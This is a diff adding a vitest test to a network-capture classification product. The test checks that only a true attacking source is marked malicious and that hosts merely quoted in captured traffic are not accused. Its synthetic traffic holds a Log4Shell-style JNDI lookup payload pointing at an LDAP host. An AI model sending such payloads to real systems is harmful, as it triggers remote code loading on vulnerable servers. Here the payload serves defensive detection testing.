@@ -1,6 +1,8 @@
 import { request } from 'node:http'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { ask, captureOf, settled, upload, webVisit, eventually } from '../product/captures.ts'
+import { pcap, type TimedFrame } from '#packet/build/pcap.ts'
+import { connection } from '#packet/testing/exchange.ts'
 import { startProduct, type Product } from '../product/start.ts'
 
 let product: Product
@@ -120,6 +122,54 @@ describe('a capture becomes an answer', () => {
     )
     expect((await change('sensor', 'none')).status).toBe(404)
     expect((await change('office')).status).toBe(400)
+  })
+
+  test('that accuses nobody by what others sent, nor by what was not captured', async () => {
+    const lookup = 'GET /?x=${jndi:ldap://198.18.7.40/a} HTTP/1.1\r\nHost: h\r\n\r\n'
+    const page = `HTTP/1.1 404 Not Found\r\nContent-Length: ${lookup.length + 50}\r\n\r\n${' '.repeat(50)}${lookup}`
+    const quoted = {
+      source: '198.18.7.40',
+      destination: '198.18.7.41',
+      destinationPort: 3000,
+      segment: 90,
+      at: now - 5000,
+    }
+    const late = connection(lookup, page, quoted).slice(5)
+    const blind = connection(lookup, '', { source: '198.18.7.42', at: now - 5000 }).slice(3, 4)
+    const visits = (source: string, packets?: number): TimedFrame[] =>
+      Array.from({ length: 30 }, (_, index) =>
+        connection('GET / HTTP/1.1\r\n\r\n', 'HTTP/1.1 204 No\r\n\r\n', {
+          source,
+          destination: `203.0.113.${index + 1}`,
+          at: now - 5000 + index,
+        }).slice(0, packets),
+      ).flat()
+    const attacker = connection(lookup, page, {
+      ...quoted,
+      source: '198.18.7.44',
+      destination: '203.0.113.9',
+    })
+    await upload(product, pcap([...late, ...blind, ...attacker]))
+    const headers = pcap([...visits('198.18.7.43'), ...visits('198.18.7.45', 1)], { snapLength: 54 })
+    await upload(product, headers, 'kind=network')
+    const classification = async (ip: string): Promise<unknown> =>
+      (
+        (await ask(product, `/v3/ip/${ip}`)).body.internet_scanner_intelligence as
+          | { classification?: string }
+          | undefined
+      )?.classification
+    // Who attacks and who sweeps are told, so the others of the same captures were looked at, too.
+    const told = { '198.18.7.44': 'malicious', '198.18.7.45': 'suspicious' }
+    for (const [ip, as] of Object.entries(told))
+      await eventually(
+        () => classification(ip),
+        (found) => found === as,
+      )
+    for (const ip of ['198.18.7.40', '198.18.7.41', '198.18.7.42', '198.18.7.43'])
+      expect([ip, String(await classification(ip))]).toEqual([
+        ip,
+        expect.not.stringMatching(/malicious|suspicious/),
+      ])
   })
 
   test('moved so that its last packet is now, where the sender asks for that', async () => {
